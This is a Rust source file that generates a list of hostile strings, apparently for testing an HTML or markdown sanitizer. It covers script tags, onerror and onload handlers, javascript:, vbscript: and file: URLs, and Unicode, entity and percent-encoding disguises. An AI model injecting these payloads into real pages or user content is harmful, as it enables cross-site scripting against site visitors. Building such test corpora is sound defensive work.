//! Texts by which strangers have made other people's pages run something: each way in with each disguise.

/// Elements that run, load, or change what stands around them.
const ELEMENTS: [&str; 12] =
    ["script", "img", "svg", "iframe", "object", "embed", "style", "math", "base", "meta", "form", "a"];

const ATTRIBUTES: [&str; 6] = [
    "src=x onerror=alert(1)",
    "onload='alert(1)'",
    "style=\"background:url(javascript:alert(1))\"",
    "href=javascript:alert(1)",
    "srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"",
    "/onfocus\n=\talert(1) autofocus",
];

/// Around a start tag: alone, nested, left open, out of an attribute, out of a comment, in code, in a table.
const PLACES: [(&str, &str); 7] = [
    ("", ""),
    ("<", ">"),
    ("", "<"),
    ("\"'>", ""),
    ("<!--", "-->"),
    ("```\n", "\n```"),
    ("| a |\n|---|\n| ", " |"),
];

const SCHEMES: [&str; 5] =
    ["javascript:alert(1)", "vbscript:x", "data:text/html,<b>", "file:///etc/passwd", "//x.example"];

/// Other ways to write `[x](…)`.
const LINKS: [(&str, &str); 7] = [
    ("[x](", ")"),
    ("[x](<", ">)"),
    ("![x](", " \"onerror=alert(1)\")"),
    ("<", ">"),
    ("[x]\n\n[x]: ", ""),
    ("<a href=\"", "\">x</a>"),
    ("[![x](", ")](https://x.example)"),
];

/// Characters that pass for others or for nothing, and ends of what a text may stand in.
const TRICKS: [&str; 22] = [
    "＜script＞alert(1)＜/script＞",
    "<\u{200d}script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "\u{feff}<script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    "\u{2028}<script>alert(1)</script>\u{2029}",
    "[x](java\u{200b}script:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "https://x.example/'onmouseover='alert(1)",
    "https://x.example/\"onmouseover=\"alert(1)",
];

fn disguised(scheme: &str, how: usize) -> String {
    match how {
        0 => scheme.to_owned(),
        1 => scheme
            .chars()
            .enumerate()
            .map(|(n, c)| if n % 2 == 0 { c.to_ascii_uppercase() } else { c })
            .collect(),
        2 => scheme.replacen('a', "&#97;", 1),
        3 => scheme.replacen(':', "&colon;", 1),
        4 => scheme.replacen('a', "a\t", 1),
        5 => format!("\u{a0}{scheme}"),
        _ => scheme.replacen(':', "%3a", 1),
    }
}

pub fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = TRICKS.iter().map(ToString::to_string).collect();
    let places = PLACES.iter().cycle();
    let tags = ELEMENTS.iter().flat_map(|element| ATTRIBUTES.iter().map(move |with| (element, with)));
    for ((element, with), (before, after)) in tags.zip(places) {
        texts.push(format!("{before}<{element} {with}>{after}"));
    }
    for scheme in SCHEMES {
        for (how, (before, after)) in LINKS.iter().enumerate() {
            texts.push(format!("{before}{scheme}{after}"));
            texts.push(format!("{before}{}{after}", disguised(scheme, how)));
        }
    }
    texts
}
